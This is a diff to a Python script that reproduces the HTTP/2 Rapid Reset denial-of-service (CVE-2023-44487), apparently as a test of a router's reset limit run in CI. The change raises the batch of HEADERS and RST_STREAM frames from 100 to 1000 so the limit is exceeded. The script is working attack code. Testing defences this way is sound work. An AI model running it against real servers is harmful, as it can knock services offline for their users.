@@ -1,8 +1,12 @@
 """Rapid reset (CVE-2023-44487) with Python `h2`: one h2c connection (prior knowledge) to
 HOST:PORT, then N times HEADERS (a GET, end of stream) immediately followed by RST_STREAM
-(CANCEL), written in batches of 100 without waiting for answers.
+(CANCEL), written in batches of BATCH (default 1000) without waiting for answers. A batch of
+1000 is larger than the router's limit of 100 resets pending accept, so the limit is crossed
+within one read whatever the speed of the machine. With batches of 100 a fast router takes up
+each batch before the next arrives and never has more than 100 pending (a CI run showed it):
+that is the paced attack, which must cost little rather than be cut off.
 
-Usage: rapid_reset.py HOST PORT N
+Usage: rapid_reset.py HOST PORT N [BATCH]
 Prints one JSON line: streams sent, the GOAWAY error code if one came, how the connection
 ended, and the seconds taken.
 """
@@ -19,6 +23,7 @@ import h2.events
 import h2.exceptions
 
 host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+BATCH = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
 out = {
     "sent": 0,
     "goaway": None,
@@ -81,7 +86,7 @@ alive = drain(0.5)  # the server's SETTINGS
 out["max_concurrent_streams"] = conn.remote_settings.max_concurrent_streams
 while alive and out["sent"] < n and out["goaway"] is None:
     try:
-        for _ in range(min(100, n - out["sent"])):
+        for _ in range(min(BATCH, n - out["sent"])):
             sid = conn.get_next_available_stream_id()
             conn.send_headers(sid, request, end_stream=True)
             conn.reset_stream(sid, error_code=8)
